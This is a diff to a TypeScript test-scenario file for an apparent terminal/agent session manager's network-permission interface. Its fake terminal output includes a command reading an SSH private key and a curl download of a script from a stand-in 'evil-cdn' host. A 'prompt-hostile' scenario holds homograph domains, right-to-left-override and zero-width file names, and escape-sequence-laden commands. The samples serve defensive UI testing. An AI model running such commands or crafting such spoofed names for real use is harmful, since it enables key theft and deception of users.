@@ -4,6 +4,7 @@ import type { Problem, Snapshot } from "../../src/backend/generated";
 import { emptyLayout, openTab, serialiseLayout, splitPane, type Layout } from "../../src/state/layout";
 import {
   HOME,
+  NOON,
   NOTES,
   SHOP,
   bareHost,
@@ -22,6 +23,8 @@ import {
   usualHost,
 } from "./samples";
 
+import { fileRow, hourRows, manyRows, netRow, openRows, prompt, rules, usualRows } from "./traffic";
+
 const folders: FakeWorld["folders"] = {
   [SHOP]: { repoRoot: SHOP, branch: "main" },
   [`${SHOP}/src`]: { repoRoot: SHOP, branch: "main" },
@@ -34,6 +37,14 @@ const BUILD = [
   "\x1b[32m✓\x1b[0m 412 modules transformed.",
   "\x1b[32m~/code/shop\x1b[0m $ cat ~/.ssh/id_ed25519",
   "\x1b[31mcat: /home/mira/.ssh/id_ed25519: No such file or directory\x1b[0m",
+  "\x1b[32m~/code/shop\x1b[0m $ ",
+].join("\r\n");
+
+const CURL = [
+  "\x1b[32m~/code/shop\x1b[0m \x1b[90mmain\x1b[0m $ npm run build",
+  "\x1b[32m✓\x1b[0m 412 modules transformed.",
+  "\x1b[32m~/code/shop\x1b[0m $ curl -O https://files.evil-cdn.net/x.sh",
+  "\x1b[31mcurl: (56) CONNECT tunnel failed, response 403\x1b[0m",
   "\x1b[32m~/code/shop\x1b[0m $ ",
 ].join("\r\n");
 
@@ -78,6 +89,25 @@ const noPty: Problem = {
   causes: ["openpty: no space left on device"],
   fix: { text: "close other terminals, or raise kernel.pty.max", command: null },
 };
+
+const asking = session({ id: "a", title: "sh", network: "ask", unread: 41 });
+const listed = session({ id: "b", title: "claude", backend: "microvm", network: "allowlist", unread: 3 });
+
+/** The window of the reference pictures: one session that asks, one with an allowlist. */
+function networkWorld(part: Partial<Snapshot>, network: FakeWorld["network"] = {}): FakeWorld {
+  const sessions = [
+    asking,
+    listed,
+    session({ id: "c", title: "zsh", backend: "none", cwd: NOTES }),
+    session({ id: "d", title: "codex", cwd: NOTES, phase: "ended", exitCode: 0 }),
+  ];
+  let layout = splitPane(openTab(openTab(emptyLayout, "c"), "a"), "a", "b", "row");
+  layout = openTab(layout, "a");
+  return world(
+    { sessions, layout: serialiseLayout(layout), ...part },
+    { output: { a: CURL, b: AGENT, c: "~/notes $ " }, network },
+  );
+}
 
 const withOne: Partial<Snapshot> = { sessions: [one], layout: tabs("a") };
 
@@ -222,5 +252,104 @@ export const scenarios: Record<string, () => FakeWorld> = {
         },
       ],
     }),
+  /** Nothing asked yet; attempts are made by the test. */
+  network: () => networkWorld({}, { activity: [...hourRows(), ...usualRows, ...openRows] }),
+  "network-rules": () =>
+    networkWorld(
+      { rules },
+      { activity: [...hourRows(), ...usualRows, ...openRows], exportTo: `${HOME}/sh.csv` },
+    ),
+  "network-empty": () => networkWorld({ sessions: [{ ...asking, unreadRefusals: 0 }], layout: tabs("a") }),
+  "network-off": () =>
+    world(
+      { sessions: [session({ id: "a", network: "off" })], layout: tabs("a") },
+      {
+        network: {
+          activity: [netRow(1, "files.example.com", { denied: "networkOff", why: "the network is off" })],
+        },
+      },
+    ),
+  "network-many": () =>
+    networkWorld(
+      { sessions: [asking], layout: tabs("a") },
+      { activity: manyRows(12_000), onlyCounted: 3_201 },
+    ),
+  /** One row in a long history fits a search for it, at its very beginning. */
+  "network-sparse": () =>
+    networkWorld(
+      { sessions: [asking], layout: tabs("a") },
+      { activity: [...manyRows(6_000), fileRow(0, { ago: 9_999, why: "needle" })] },
+    ),
+  "prompt-one": () => networkWorld({ prompts: [prompt()] }, { activity: [...hourRows(), ...usualRows] }),
+  "prompt-several": () =>
+    networkWorld(
+      {
+        prompts: [
+          prompt(),
+          prompt({
+            id: "question-2",
+            host: "pypi.example.net",
+            parent: "*.example.net",
+            firstMs: NOON - 5_000,
+            attempts: 1,
+          }),
+          prompt({
+            id: "question-3",
+            host: "updates.vendor.example",
+            parent: null,
+            sessionId: "b",
+            sessionTitle: "claude",
+            backend: "microvm",
+            firstMs: NOON - 2_000,
+            attempts: 311,
+            process: null,
+          }),
+          prompt({
+            id: "question-4",
+            host: "late.example.com",
+            firstMs: NOON - 90_000,
+            state: "missed",
+            deadlineMs: null,
+            attempts: 0,
+          }),
+        ],
+        folded: [{ sessionId: "b", hosts: 12, deniedUnasked: 340 }],
+      },
+      { activity: usualRows },
+    ),
+  "prompt-missed": () =>
+    networkWorld(
+      { prompts: [prompt({ state: "missed", deadlineMs: null, attempts: 0 })] },
+      { activity: usualRows },
+    ),
+  /** Names made to be read wrongly. */
+  "prompt-hostile": () =>
+    networkWorld(
+      {
+        prompts: [
+          prompt({
+            host: "xn--pple-43d.com",
+            unicode: "аpple.com",
+            parent: null,
+            process: {
+              pid: 66,
+              name: "curl\u202egpj",
+              executable: "/tmp/\u200bcurl",
+              command: "curl\u001b[2J https://xn--pple-43d.com/\u202e" + "a".repeat(400),
+              cwd: `${SHOP}/\u2066x`,
+              parents: ["ba\u200bsh", "make"],
+            },
+          }),
+        ],
+      },
+      {
+        activity: [
+          ...usualRows,
+          netRow(9_050, "xn--pple-43d.com", { denied: "notListed", unicode: "аpple.com:443" }),
+          netRow(9_051, `login.bank.example.${"a".repeat(60)}.evil.net`, { denied: "notListed" }),
+          fileRow(9_052, { target: `${SHOP}/a\u202egpj.exe`, why: "name\u001b[31m rule" }),
+        ],
+      },
+    ),
   light: () => world({ ...withOne, settings: { ...settings, theme: "light" } }),
 };
